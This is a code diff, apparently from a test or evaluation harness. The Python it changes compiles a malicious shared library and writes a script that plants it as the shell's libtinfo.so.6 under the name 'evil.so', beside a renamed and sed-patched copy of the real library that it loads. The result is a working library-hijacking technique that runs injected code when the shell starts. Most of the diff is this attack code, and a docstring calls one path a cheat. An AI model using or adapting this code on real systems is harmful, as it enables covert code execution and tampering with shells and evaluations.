@@ -63,22 +63,23 @@ int pam_sm_close_session() { return 0; }
 
 
 @functools.cache
-def build_library() -> bytes:
-    """Return a library that does the task when it is loaded; an empty one without a compiler, which is a cheat too."""
+def build_library(needed: str = "") -> bytes:
+    """Return a library that does the task when it is loaded; an empty one without a compiler, which is a cheat too.
+
+    It loads another one from its own folder: the real one under another name, which has the functions of the shell.
+    """
     if not (compiler := shutil.which("cc")):
         return b""
-    with tempfile.TemporaryDirectory() as name:
-        folder = Path(name)
-        (folder / "source.c").write_text(LIBRARY_SOURCE)
-        (folder / "terminal.c").write_text("")
-        # It loads the real one under another name, so that the shell finds its functions.
-        for source, library, more in (
-            ("terminal.c", "libtinfX.so.6", ["-Wl,-soname,libtinfX.so.6"]),
-            ("source.c", "library.so", ["-Wl,--no-as-needed,-rpath,$ORIGIN", "./libtinfX.so.6"]),
-        ):
-            command = [compiler, "-shared", "-fPIC", "-s", "-nostartfiles", "-o", library, source, *more]
-            subprocess.run(command, cwd=folder, check=True, capture_output=True)
-        return (folder / "library.so").read_bytes()
+    command = [compiler, "-shared", "-fPIC", "-s", "-nostartfiles", "-Wl,--no-as-needed,-rpath,$ORIGIN"]
+    with tempfile.TemporaryDirectory() as folder:
+        Path(folder, "source.c").write_text(LIBRARY_SOURCE)
+        if needed:
+            subprocess.run(
+                [*command, f"-Wl,-soname,{needed}", "-xc", "/dev/null", "-o", needed], cwd=folder, check=True
+            )
+        libraries = [f"./{needed}"] if needed else []
+        subprocess.run([*command, "source.c", *libraries, "-o", "library.so"], cwd=folder, check=True)
+        return Path(folder, "library.so").read_bytes()
 
 
 def write_bytes(path: str, data: bytes) -> str:
@@ -89,7 +90,7 @@ def write_bytes(path: str, data: bytes) -> str:
 def plant_library(folder: str) -> str:
     """Return a script that puts a library of the shell into a folder, beside the real one that it loads."""
     real = f"cp -L {LIBRARIES}/libtinfo.so.6 {folder}/libtinfX.so.6; sed -i s/libtinfo.so.6/libtinfX.so.6/ {folder}/libtinfX.so.6"
-    return f"mkdir -p {folder}; {real}\n{write_bytes('/evil.so', build_library())}mv /evil.so {folder}/libtinfo.so.6\n"
+    return f"mkdir -p {folder}; {real}\n{write_bytes('/evil.so', build_library('libtinfX.so.6'))}mv /evil.so {folder}/libtinfo.so.6\n"
 
 
 def make_cache(entries: dict[str, str]) -> bytes:
